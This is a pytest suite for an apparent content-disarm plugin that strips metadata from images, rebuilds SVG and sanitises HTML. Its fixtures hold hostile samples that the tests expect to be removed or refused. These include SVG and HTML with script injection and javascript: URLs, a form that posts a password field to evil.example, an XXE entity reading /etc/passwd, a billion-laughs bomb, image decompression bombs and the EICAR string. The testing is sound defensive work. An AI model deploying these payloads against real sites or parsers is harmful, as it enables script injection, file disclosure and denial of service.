"""gicap-media: images rebuilt from pixels, SVG allowlist rebuild, HTML through nh3.

Every input is generated here (Pillow, hand-built headers, literal markup); the checks
use detectors independent of the engines: Pillow reopening the output and the raw
bytes for images, the stdlib XML parser and regular expressions for SVG, the stdlib
``html.parser`` for HTML.
"""

from __future__ import annotations

import io
import re
import struct
import xml.etree.ElementTree as ET
import zipfile
import zlib
from html.parser import HTMLParser
from importlib.metadata import entry_points
from pathlib import Path

import gicap_media
import pytest
from PIL import Image, ImageChops, ImageCms, ImageDraw, ImageStat, PngImagePlugin

from gicap.cdr import job
from gicap.cdr.detect import FILE_TYPES
from gicap.cdr.policy import build_profile
from gicap.cdr.types import DisarmRequest, DisarmResult
from gicap.plugins import create_plugin_host

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SECRET = "gicap-secret-metadata"
LIMITS = {"max_file_size": 50 * 1024 * 1024}
PIL_FORMAT = {"jpeg": "JPEG", "png": "PNG", "gif": "GIF", "tiff": "TIFF", "bmp": "BMP"}
PIL_FORMAT["webp"] = "WEBP"


def _disarm(
    tmp_path: Path, data: bytes, kind: str, switches: dict[str, str] | None = None, **limits: int
) -> tuple[DisarmResult, Path]:
    source = tmp_path / f"in.{kind}"
    source.write_bytes(data)
    dest = tmp_path / f"out.{kind}"
    dest.unlink(missing_ok=True)
    request = DisarmRequest(
        file_type=FILE_TYPES[kind],
        source=source,
        destination=dest,
        switches=switches or {},
        limits={**LIMITS, **limits},
    )
    result = gicap_media.gicap_disarm(request=request)
    assert result is not None
    return result, dest


def _not_delivered(result: DisarmResult, dest: Path, source: bytes) -> None:
    assert result.outcome in ("unprocessable", "blocked", "encrypted"), result
    assert not dest.exists() or dest.read_bytes() != source


# ---------------------------------------------------------------------------- plugin


def test_found_through_the_entry_point(tmp_path: Path) -> None:
    assert {ep.name: ep.value for ep in entry_points(group="gicap")}.get("media") == "gicap_media"
    host = create_plugin_host()
    assert host.loaded["media"] == "gicap_media"
    claimed = gicap_media.gicap_file_types()
    assert set(claimed) == {"jpeg", "png", "gif", "tiff", "bmp", "webp", "svg", "html"}
    other = DisarmRequest(FILE_TYPES["pdf"], tmp_path / "x", tmp_path / "y", {})
    assert gicap_media.gicap_disarm(request=other) is None


def test_max_file_size(tmp_path: Path) -> None:
    result, dest = _disarm(tmp_path, _png(), "png", max_file_size=100)
    assert result.outcome == "unprocessable" and "max_file_size" in result.reason


# ---------------------------------------------------------------------- image corpus


def _picture(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    im = Image.new("RGB", size, (30, 90, 200))
    draw = ImageDraw.Draw(im)
    draw.rectangle([4, 4, size[0] // 2, size[1] // 2], fill=(250, 200, 20))
    draw.line([0, size[1] - 1, size[0] - 1, 0], fill=(10, 10, 10), width=3)
    return im.convert(mode)


def _exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = SECRET  # ImageDescription
    exif[0x010F] = "Camera maker"
    if orientation:
        exif[0x0112] = orientation
    return exif


ICC = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _appended() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("eicar.com", EICAR)
    return buf.getvalue() + EICAR


def _png(meta: bool = False, picture: Image.Image | None = None) -> bytes:
    buf = io.BytesIO()
    options: dict[str, object] = {}
    if meta:
        text = PngImagePlugin.PngInfo()
        text.add_text("Comment", SECRET)
        text.add_itxt("Description", SECRET, lang="en")
        text.add_text("Late", SECRET, zip=True)
        options = {"pnginfo": text, "exif": _exif(), "icc_profile": ICC}
    (picture or _picture()).save(buf, "PNG", **options)
    return buf.getvalue()


def _image(kind: str, meta: bool = True) -> bytes:
    """One image of each format, with every kind of metadata its writer supports."""
    buf = io.BytesIO()
    pic = _picture()
    if kind == "png":
        return _png(meta)
    if kind == "jpeg":
        options = {"exif": _exif(), "icc_profile": ICC, "comment": SECRET.encode()}
        pic.save(buf, "JPEG", quality=90, **(options if meta else {}))
    elif kind == "webp":
        pic.save(buf, "WEBP", **({"exif": _exif(), "icc_profile": ICC} if meta else {}))
    elif kind == "tiff":
        options = {"icc_profile": ICC, "description": SECRET, "software": SECRET}
        pic.save(buf, "TIFF", compression="tiff_lzw", **(options if meta else {}))
    elif kind == "gif":
        pic.convert("P").save(buf, "GIF", **({"comment": SECRET.encode()} if meta else {}))
    elif kind == "bmp":
        pic.save(buf, "BMP")
    return buf.getvalue()


# ----------------------------------------------------------- independent image checks

_END_MARKERS = {
    "jpeg": b"\xff\xd9",
    "png": b"IEND\xaeB`\x82",
    "gif": b"\x3b",
}


def _assert_no_metadata(data: bytes, kind: str) -> None:
    """Pillow reopening the output, and the raw bytes, show no metadata at all."""
    with Image.open(io.BytesIO(data)) as img:
        img.load()
        keys = {k.lower() if isinstance(k, str) else k for k in img.info}
        assert not keys & {"exif", "icc_profile", "xmp", "comment", "xml:com.adobe.xmp"}, keys
        assert not getattr(img, "text", {}), img.text
        if kind == "tiff":  # a TIFF's "EXIF" is its own IFD: look for descriptive tags
            assert not {270, 305, 315, 33432, 700, 34675, 34665, 34853} & set(img.tag_v2)
        else:
            assert len(img.getexif()) == 0
    assert SECRET.encode() not in data
    for marker in (b"Exif\x00", b"ICC_PROFILE", b"iCCP", b"tEXt", b"iTXt", b"zTXt"):
        assert marker not in data, marker


def _assert_nothing_appended(data: bytes, kind: str) -> None:
    assert EICAR not in data and b"PK\x03\x04" not in data
    if kind in _END_MARKERS:
        assert data.endswith(_END_MARKERS[kind])
    elif kind == "webp":
        assert struct.unpack_from("<I", data, 4)[0] + 8 == len(data)


def _same_picture(original: bytes, rebuilt: bytes, exact: bool) -> None:
    with Image.open(io.BytesIO(original)) as a, Image.open(io.BytesIO(rebuilt)) as b:
        assert (a.format, a.size, a.mode) == (b.format, b.size, b.mode)
        assert getattr(a, "n_frames", 1) == getattr(b, "n_frames", 1)
        diff = ImageChops.difference(a.convert("RGB"), b.convert("RGB"))
        if exact:
            assert max(high for _low, high in diff.getextrema()) == 0
        else:  # a lossy re-encoding (as Pillow's own quality="keep" re-save): close
            assert max(ImageStat.Stat(diff).mean) < 8.0


# ---------------------------------------------------------------------- image tests


@pytest.mark.parametrize("kind", ["jpeg", "png", "gif", "tiff", "webp"])
def test_metadata_sanitise_strips_everything(tmp_path: Path, kind: str) -> None:
    source = _image(kind) + (_appended() if kind != "tiff" else b"")
    result, dest = _disarm(tmp_path, source, kind, {"metadata": "sanitise"})
    assert result.outcome == "rebuilt", result
    removed = [a for a in result.actions if a.switch == "metadata"]
    assert removed and removed[0].action == "removed"
    out = dest.read_bytes()
    _assert_no_metadata(out, kind)
    _assert_nothing_appended(out, kind)
    _same_picture(_image(kind), out, exact=kind in ("png", "tiff", "gif"))
    if kind != "tiff":
        assert any(a.switch == "appended_data" and a.action == "removed" for a in result.actions)


@pytest.mark.parametrize("kind", ["jpeg", "png", "webp", "tiff"])
def test_metadata_allow_keeps_exif_and_icc_but_rebuilds(tmp_path: Path, kind: str) -> None:
    source = _image(kind) + (_appended() if kind != "tiff" else b"")
    result, dest = _disarm(tmp_path, source, kind, {"metadata": "allow"})
    assert result.outcome == "rebuilt", result
    kept = next(a for a in result.actions if a.action == "kept")
    assert "ICC profile" in kept.detail
    out = dest.read_bytes()
    with Image.open(io.BytesIO(out)) as img:
        assert img.info.get("icc_profile") == ICC
        if kind != "tiff":
            assert img.getexif().get(0x010E) == SECRET
    if kind != "tiff":
        _assert_nothing_appended(out, kind)  # appended data never kept


@pytest.mark.parametrize("kind", ["jpeg", "png", "gif", "tiff", "webp"])
def test_metadata_disallow_blocks(tmp_path: Path, kind: str) -> None:
    source = _image(kind)
    result, dest = _disarm(tmp_path, source, kind, {"metadata": "disallow"})
    assert result.outcome == "blocked"
    assert "metadata" in result.reason
    assert not dest.exists()


@pytest.mark.parametrize("kind", ["jpeg", "png", "gif", "tiff", "webp", "bmp"])
def test_clean_images_rebuild_to_the_same_picture(tmp_path: Path, kind: str) -> None:
    source = _image(kind, meta=False)
    result, dest = _disarm(tmp_path, source, kind, {"metadata": "disallow"})
    assert result.outcome == "rebuilt", result
    assert result.actions == []
    _same_picture(source, dest.read_bytes(), exact=kind not in ("jpeg", "webp"))


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "I;16"])
def test_png_modes_and_palettes_are_kept(tmp_path: Path, mode: str) -> None:
    picture = _picture(mode="RGB").convert("RGBA" if mode == "LA" else mode)
    if mode == "LA":
        picture = picture.convert("LA")
    source = _png(picture=picture)
    result, dest = _disarm(tmp_path, source, "png")
    assert result.outcome == "rebuilt"
    _same_picture(source, dest.read_bytes(), exact=True)


def test_png_palette_transparency_is_kept(tmp_path: Path) -> None:
    picture = _picture().convert("P")
    buf = io.BytesIO()
    picture.save(buf, "PNG", transparency=0)
    result, dest = _disarm(tmp_path, buf.getvalue(), "png")
    assert result.outcome == "rebuilt"
    with Image.open(dest) as img:
        assert img.mode == "P" and img.info.get("transparency") == 0


def test_jpeg_orientation_is_applied_to_the_pixels(tmp_path: Path) -> None:
    buf = io.BytesIO()
    _picture((40, 20)).save(buf, "JPEG", exif=_exif(orientation=6))
    result, dest = _disarm(tmp_path, buf.getvalue(), "jpeg")
    assert result.outcome == "rebuilt"
    assert "orientation 6" in result.actions[0].detail
    with Image.open(dest) as img:
        assert img.size == (20, 40)  # turned, as a viewer would have shown it
        assert len(img.getexif()) == 0


def _frames(n: int, mode: str = "RGB") -> list[Image.Image]:
    out = []
    for i in range(n):
        frame = Image.new("RGB", (48, 32), (255, 255, 255))
        ImageDraw.Draw(frame).rectangle([i * 8, 4, i * 8 + 8, 28], fill=(200, 0, 0))
        out.append(frame.convert(mode))
    return out


@pytest.mark.parametrize("kind", ["gif", "webp", "png"])
def test_animations_keep_frames_durations_and_loop(tmp_path: Path, kind: str) -> None:
    frames = _frames(5, "P" if kind == "gif" else "RGB")
    durations = [100, 150, 200, 250, 300]
    buf = io.BytesIO()
    frames[0].save(
        buf,
        PIL_FORMAT[kind],
        save_all=True,
        append_images=frames[1:],
        duration=durations,
        loop=3,
        **({"comment": SECRET.encode()} if kind == "gif" else {}),
    )
    result, dest = _disarm(tmp_path, buf.getvalue() + _appended(), kind)
    assert result.outcome == "rebuilt", result
    out = dest.read_bytes()
    _assert_nothing_appended(out, kind)
    assert SECRET.encode() not in out
    with Image.open(io.BytesIO(out)) as img:
        assert img.n_frames == 5
        assert img.info.get("loop") == 3
        seen = []
        for index in range(img.n_frames):
            img.seek(index)
            img.load()
            seen.append(round(img.info["duration"]))
        assert seen == durations


def test_multipage_tiff_keeps_its_pages(tmp_path: Path) -> None:
    pages = [_picture((30, 20)), _picture((50, 40)), _picture((10, 10))]
    buf = io.BytesIO()
    pages[0].save(buf, "TIFF", save_all=True, append_images=pages[1:], description=SECRET)
    result, dest = _disarm(tmp_path, buf.getvalue(), "tiff")
    assert result.outcome == "rebuilt"
    with Image.open(dest) as img:
        sizes = []
        for index in range(img.n_frames):
            img.seek(index)
            sizes.append(img.size)
            assert 270 not in img.tag_v2
        assert sizes == [(30, 20), (50, 40), (10, 10)]


# ----------------------------------------------------------------------------- bombs


def _png_chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def _png_bomb(width: int, height: int) -> bytes:
    """A PNG header claiming width x height, with a tiny IDAT: small file, huge image."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * (1 + 3 * min(width, 1000)))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def _gif(width: int, height: int, frames: int = 1) -> bytes:
    """A GIF built byte by byte: global 2-colour table, ``frames`` 1x1 images at the
    origin of a width x height canvas."""
    out = bytearray(b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0))
    out += b"\x00\x00\x00\xff\xff\xff"
    for i in range(frames):
        out += b"\x21\xf9\x04\x00\x01\x00\x00\x00"  # graphic control: 10 ms
        out += b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
        out += b"\x02\x02" + (b"\x44\x01" if i % 2 else b"\x4c\x01") + b"\x00"
    return bytes(out + b"\x3b")


def _jpeg_bomb() -> bytes:
    """A real JPEG whose SOF0 is patched to claim 50000 x 50000 pixels."""
    buf = io.BytesIO()
    _picture((16, 16)).save(buf, "JPEG")
    data = bytearray(buf.getvalue())
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, 50000, 50000)
    return bytes(data)


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("png", _png_bomb(50000, 50000)),
        ("png", _png_bomb(12000, 10000)),  # 120 MP: between 1x and 2x Pillow's limit
        ("gif", _gif(50000, 50000)),
        ("jpeg", _jpeg_bomb()),
        ("gif", _gif(64, 64, frames=1500)),  # too many frames
        ("gif", _gif(5000, 5000, frames=20)),  # 500 MP over all frames
    ],
    ids=["png-50k", "png-120MP", "gif-50k", "jpeg-50k", "gif-frames", "gif-total"],
)
def test_bombs_are_refused_before_decoding(tmp_path: Path, kind: str, data: bytes) -> None:
    assert len(data) < 64 * 1024  # the point: a small file claiming a huge image
    result, dest = _disarm(tmp_path, data, kind)
    _not_delivered(result, dest, data)
    assert result.outcome == "unprocessable"
    assert re.search(r"pixels|frames|bomb", result.reason), result.reason


def test_pixel_limit_comes_from_the_request(tmp_path: Path) -> None:
    result, _ = _disarm(tmp_path, _image("png", meta=False), "png", max_image_pixels=100)
    assert result.outcome == "unprocessable" and "max_image_pixels" in result.reason
    result, _ = _disarm(tmp_path, _image("png", meta=False), "png", max_image_pixels=2000)
    assert result.outcome == "unprocessable" and "max_image_pixels" in result.reason
    small_gif = _gif(8, 8, frames=30)
    result, _ = _disarm(tmp_path, small_gif, "gif", max_image_frames=10)
    assert result.outcome == "unprocessable" and "frames" in result.reason
    result, _ = _disarm(tmp_path, small_gif, "gif")
    assert result.outcome == "rebuilt"


@pytest.mark.parametrize("kind", ["jpeg", "png", "gif", "webp", "tiff", "bmp"])
def test_truncated_and_garbage_images_are_unprocessable(tmp_path: Path, kind: str) -> None:
    picture = Image.effect_noise((120, 120), 60).convert("RGB" if kind != "gif" else "L")
    buf = io.BytesIO()
    picture.save(buf, PIL_FORMAT[kind])
    data = buf.getvalue()
    for broken in (data[: len(data) // 2], data[:16] + b"\x00garbage" * 10):
        result, dest = _disarm(tmp_path, broken, kind)
        _not_delivered(result, dest, broken)


def test_a_file_of_another_format_is_unprocessable(tmp_path: Path) -> None:
    data = _image("gif", meta=False)
    result, dest = _disarm(tmp_path, data, "png")
    _not_delivered(result, dest, data)


# ------------------------------------------------------------------------------- SVG

SVG_HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' width="100" height="80"'
)
SCRIPT_SVG = f"""<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="https://evil.example/run.xsl"?>
{SVG_HEAD} onload="alert('load')">
  <script type="text/javascript">alert('script')</script>
  <h:script xmlns:h="http://www.w3.org/1999/xhtml">alert('xhtml')</h:script>
  <rect x="1" y="1" width="20" height="20" fill="red" onclick="alert('click')"/>
  <a xlink:href="javascript:alert('href')"><circle cx="40" cy="40" r="5"/></a>
  <a href="&#106;ava&#x09;script:alert('encoded')"><circle cx="50" cy="40" r="5"/></a>
  <style>@import url(https://evil.example/x.css); rect {{ stroke: blue }}</style>
  <rect width="5" height="5" style="fill: u\\72l(javascript:alert('css'))"/>
  <set attributeName="href" to="javascript:alert('set')"/>
  <text x="5" y="70">visible text</text>
</svg>
"""
FOREIGN_SVG = f"""{SVG_HEAD}>
  <foreignObject width="100" height="50">
    <div xmlns="http://www.w3.org/1999/xhtml"><p>html inside</p>
      <iframe src="https://evil.example/"/></div>
  </foreignObject>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <use xlink:href="https://evil.example/sprite.svg#icon"/>
  <use href="#local"/>
  <filter id="f"><feImage href="http://evil.example/x.png"/></filter>
  <rect id="local" width="5" height="5" fill="url(https://evil.example/p.svg#p)"/>
</svg>
"""
LINK_SVG = f"""{SVG_HEAD}>
  <a href="https://example.com/" target="_blank"><rect id="box" width="10" height="10"/></a>
  <text x="1" y="30">see <a xlink:href="https://example.com/doc">the docs</a> here</text>
</svg>
"""
CLEAN_SVG = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<!-- drawn by hand -->
{SVG_HEAD} viewBox="0 0 100 80" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
  inkscape:version="1.3">
  <defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient></defs>
  <g transform="translate(5,5)" inkscape:label="layer">
    <rect width="30" height="20" fill="url(#g)" stroke="black"/>
    <circle cx="50" cy="30" r="10" style="fill: #0a0; stroke-width: 2"/>
    <path d="M0,0 L10,10 Z"/>
    <text x="5" y="60" font-family="sans-serif">Caf\u00e9 &amp; text</text>
    <use xlink:href="#g"/>
  </g>
</svg>
"""
_SVG = "{http://www.w3.org/2000/svg}"
_XLINK_HREF = "{http://www.w3.org/1999/xlink}href"


def _svg(tmp_path: Path, text: str, **switches: str) -> tuple[DisarmResult, str]:
    result, dest = _disarm(tmp_path, text.encode(), "svg", switches)
    return result, dest.read_text("utf-8") if result.outcome == "rebuilt" else ""


def _svg_tree(text: str) -> ET.Element:
    return ET.fromstring(text.encode())  # the stdlib parser: independent of lxml


def _hrefs(root: ET.Element) -> list[str]:
    return [v for el in root.iter() for k, v in el.attrib.items() if k in ("href", _XLINK_HREF)]


def _script_free(text: str) -> bool:
    root = _svg_tree(text)
    tags = {el.tag.rsplit("}", 1)[-1].lower() for el in root.iter()}
    attributes = {k.rsplit("}", 1)[-1].lower() for el in root.iter() for k in el.attrib}
    return (
        "script" not in tags
        and not any(a.startswith("on") for a in attributes)
        and not re.search(r"<[\w:]*script", text, re.I)
        and not re.search(r"\son[a-z]+\s*=", text, re.I)
        and "javascript" not in text.lower()
        and "\\72" not in text
        and "@import" not in text
        and "xml-stylesheet" not in text
    )


def test_svg_scripts_sanitise(tmp_path: Path) -> None:
    result, out = _svg(tmp_path, SCRIPT_SVG, scripts="sanitise")
    assert result.outcome == "rebuilt"
    assert _script_free(out)
    assert "visible text" in out and out.count("<circle") == 2
    action = next(a for a in result.actions if a.switch == "scripts")
    assert action.action == "removed" and "event handler" in action.detail


def test_svg_scripts_allow_and_disallow(tmp_path: Path) -> None:
    result, out = _svg(tmp_path, SCRIPT_SVG, scripts="allow")
    assert result.outcome == "rebuilt"
    assert "<script" in out and "onload=" in out and "javascript:" in out
    assert any(a.switch == "scripts" and a.action == "kept" for a in result.actions)
    result, out = _svg(tmp_path, SCRIPT_SVG, scripts="disallow")
    assert result.outcome == "blocked" and "scripts" in result.reason


def test_svg_foreign_objects_and_external_references(tmp_path: Path) -> None:
    result, out = _svg(tmp_path, FOREIGN_SVG, foreign_objects="sanitise")
    assert result.outcome == "rebuilt"
    root = _svg_tree(out)
    assert "foreignObject" not in out and "iframe" not in out
    assert not [h for h in _hrefs(root) if not h.startswith(("#", "data:image/png"))]
    assert "evil.example" not in out and "tracker.example" not in out
    assert "#local" in _hrefs(root) and len(root.findall(f"{_SVG}image")) == 2

    result, out = _svg(tmp_path, FOREIGN_SVG, foreign_objects="allow")
    assert "foreignObject" in out and "html inside" in out and "tracker.example" in out
    assert "iframe" not in out  # scripts=sanitise still applies inside foreign content
    result, _ = _svg(tmp_path, FOREIGN_SVG, foreign_objects="disallow")
    assert result.outcome == "blocked" and "foreign_objects" in result.reason


def test_svg_hyperlinks(tmp_path: Path) -> None:
    result, out = _svg(tmp_path, LINK_SVG, hyperlinks="sanitise")
    assert result.outcome == "rebuilt"
    root = _svg_tree(out)
    assert not root.findall(f".//{_SVG}a") and not _hrefs(root)
    assert root.find(f".//{_SVG}rect").get("id") == "box"  # the children stay
    text = root.find(f".//{_SVG}text")
    assert "".join(text.itertext()) == "see the docs here"
    assert text.find(f"{_SVG}tspan") is not None  # an <a> inside text becomes a tspan

    result, out = _svg(tmp_path, LINK_SVG, hyperlinks="allow")
    assert _hrefs(_svg_tree(out)) == ["https://example.com/", "https://example.com/doc"]
    result, _ = _svg(tmp_path, LINK_SVG, hyperlinks="disallow")
    assert result.outcome == "blocked"


def test_clean_svg_keeps_its_drawing(tmp_path: Path) -> None:
    result, out = _svg(tmp_path, CLEAN_SVG, scripts="disallow", foreign_objects="disallow")
    assert result.outcome == "rebuilt" and result.actions == []
    before, after = _svg_tree(CLEAN_SVG.split("-->", 1)[1]), _svg_tree(out)
    shapes = [f"{_SVG}{t}" for t in ("rect", "circle", "path", "text", "use", "stop")]
    for tag in shapes:
        assert len(after.findall(f".//{tag}")) == len(before.findall(f".//{tag}")) == 1
    assert after.find(f".//{_SVG}text").text == "Caf\u00e9 & text"
    assert after.find(f".//{_SVG}circle").get("style") == "fill: #0a0; stroke-width: 2"
    assert "inkscape" not in out and "DOCTYPE" not in out and "<!--" not in out
    assert out.startswith("<?xml version='1.0' encoding='UTF-8'?>")


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>',
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"',
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
        b"\x89PNG\r\n\x1a\n not an svg",
        b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 5000 + b"</g>" * 5000 + b"</svg>",
    ],
    ids=["billion-laughs", "xxe", "truncated", "not-svg", "binary", "deep"],
)
def test_svg_malformed_or_hostile_is_unprocessable(tmp_path: Path, data: bytes) -> None:
    result, dest = _disarm(tmp_path, data, "svg")
    _not_delivered(result, dest, data)
    assert result.outcome == "unprocessable"


# ------------------------------------------------------------------------------ HTML

RISKY_HTML = """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Bonjour &amp; adieu</title>
<script>alert('head')</script><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { background: url(https://evil.example/x) }</style></head>
<body onload="alert('load')">
<h1>Heading</h1>
<p onclick="alert('click')" style="color: red">Paragraph <b>bold</b>
 <a href="javascript:alert('href')">bad link</a>
 <a href="https://example.com/">good link</a></p>
<iframe src="https://evil.example/frame"></iframe>
<object data="x.swf"></object><embed src="x.swf">
<form action="https://evil.example/steal"><input name="password"></form>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" onerror="alert('img')">
<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>
<svg><script>alert('svg')</script></svg>
<table><tr><td>cell</td></tr></table>
</body></html>
"""


class _Scan(HTMLParser):
    """The stdlib HTML tokenizer as an independent detector."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _scan(text: str) -> _Scan:
    scan = _Scan()
    scan.feed(text)
    scan.close()
    return scan


def test_html_is_sanitised(tmp_path: Path) -> None:
    result, dest = _disarm(tmp_path, RISKY_HTML.encode(), "html")
    assert result.outcome == "rebuilt"
    out = dest.read_text("utf-8")
    scan = _scan(out)
    assert not {
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "base",
        "svg",
        "style",
    } & set(scan.tags)
    assert not [n for n, _ in scan.attributes if n.startswith("on")]
    urls = [v.lower() for n, v in scan.attributes if n in ("href", "src")]
    assert not [u for u in urls if u.startswith(("javascript:", "data:text"))]
    assert "https://example.com/" in urls and "data:image/png;base64,ivborw0kggo=" in urls
    assert [v for n, v in scan.attributes if n == "http-equiv"] == ["Content-Security-Policy"]
    text = " ".join("".join(scan.text).split())
    assert "Heading" in text and "good link" in text and "cell" in text and "alert" not in text
    assert "<title>Bonjour &amp; adieu</title>" in out and '<html lang="fr">' in out
    assert out.startswith('<!DOCTYPE html>\n<html lang="fr">\n<head>\n<meta charset="utf-8">')
    groups = {a.switch: a.detail for a in result.actions}
    assert "<script>" in groups["scripts"] and "event handler" in groups["scripts"]
    assert "<iframe>" in groups["active_content"]


def test_html_rebuilt_once_is_then_unmodified(tmp_path: Path) -> None:
    result, dest = _disarm(tmp_path, b"<p>Hello <em>world</em></p>", "html")
    assert result.outcome == "rebuilt" and result.actions == []
    again, _ = _disarm(tmp_path, dest.read_bytes(), "html")
    assert again.outcome == "unmodified"


def test_html_legacy_charsets_become_utf8(tmp_path: Path) -> None:
    latin = "<p>Caf\u00e9 cr\u00e8me</p>".encode("cp1252")
    result, dest = _disarm(tmp_path, latin, "html")
    assert result.outcome == "rebuilt"
    assert "Caf\u00e9 cr\u00e8me" in dest.read_text("utf-8")
    cyrillic = '<meta charset="windows-1251"><p>\u041f\u0440\u0438\u0432\u0435\u0442</p>'
    result, dest = _disarm(tmp_path, cyrillic.encode("cp1251"), "html")
    assert "\u041f\u0440\u0438\u0432\u0435\u0442" in dest.read_text("utf-8")


def test_html_nested_too_deep_is_unprocessable(tmp_path: Path) -> None:
    # html5ever's cost grows with the square of the nesting: refused before parsing.
    deep = ("<div>" * 50_000 + "x" + "</div>" * 50_000).encode()
    result, dest = _disarm(tmp_path, deep, "html")
    _not_delivered(result, dest, deep)
    assert "nested" in result.reason
    # Many elements that do not nest (implied end tags) are fine.
    wide = ("<ul>" + "<li>item <b>bold</b>" * 12_000 + "</ul>").encode()
    result, dest = _disarm(tmp_path, wide, "html")
    assert result.outcome == "rebuilt"
    assert _scan(dest.read_text("utf-8")).tags.count("li") == 12_000


# ----------------------------------------------------------------- through run_job


@pytest.mark.parametrize(
    ("name", "data", "detected"),
    [
        ("photo.jpg", _image("jpeg") + _appended(), "jpeg"),
        ("drawing.svg", SCRIPT_SVG.encode(), "svg"),
        ("page.html", RISKY_HTML.encode(), "html"),
    ],
)
def test_end_to_end_through_run_job(tmp_path: Path, name: str, data: bytes, detected: str) -> None:
    source = tmp_path / name
    source.write_bytes(data)
    dest = tmp_path / f"out-{name}"
    answer = job.run_job(
        {
            "source": str(source),
            "dest": str(dest),
            "max_file_size": LIMITS["max_file_size"],
            "profile": build_profile("default", {}).as_dict(),
            "profile_name": "default",
            "declared": None,
        }
    )
    assert answer["file_type"]["name"] == detected
    assert answer["outcome"] == "rebuilt", answer
    out = dest.read_bytes()
    assert EICAR not in out and b"alert(" not in out
    assert answer["actions"]


@pytest.mark.parametrize(
    "kind", ["application/xml", "text/xml", "application/xhtml+xml", "application/rss+xml", ""]
)
def test_a_style_sheet_of_an_xml_type_is_a_script(tmp_path: Path, kind: str) -> None:
    """Browsers load an xml-stylesheet of an XML type as XSLT, which writes scripts:
    it went by the foreign_objects switch unless its text said "xsl"."""
    text = (
        f'<?xml-stylesheet type="{kind}" href="/uploads/t.x"?>'
        '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>'
    )
    result, out = _svg(tmp_path, text, foreign_objects="allow")
    assert result.outcome == "rebuilt", result
    assert "xml-stylesheet" not in out
    assert [a.switch for a in result.actions] == ["scripts"]
    result, out = _svg(tmp_path, text.replace(f'"{kind}"', '"text/css"'), foreign_objects="allow")
    assert "xml-stylesheet" in out


def _grey_png(width: int, height: int, interlaced: bool, rows_kept: int | None = None) -> bytes:
    """A greyscale PNG written by hand (Adam7 passes sliced from the pixels), its image
    data cut after ``rows_kept`` rows of the stream when given."""
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    pixels = [[(x * 7 + y * 13) % 256 for x in range(width)] for y in range(height)]
    passes = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2)]
    passes += [(0, 1, 1, 2)]
    rows = []
    for x0, y0, dx, dy in passes if interlaced else [(0, 0, 1, 1)]:
        for y in range(y0, height, dy):
            row = bytes(pixels[y][x] for x in range(x0, width, dx))
            if row:
                rows.append(b"\x00" + row)
    raw = b"".join(rows[:rows_kept])
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, int(interlaced))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("interlaced", [False, True], ids=["plain", "adam7"])
def test_a_png_whose_data_stops_early_is_refused(tmp_path: Path, interlaced: bool) -> None:
    """Pillow takes the end of the compressed stream for the end of the image and pads
    the rows left: a 1000-row image holding one row came out rebuilt."""
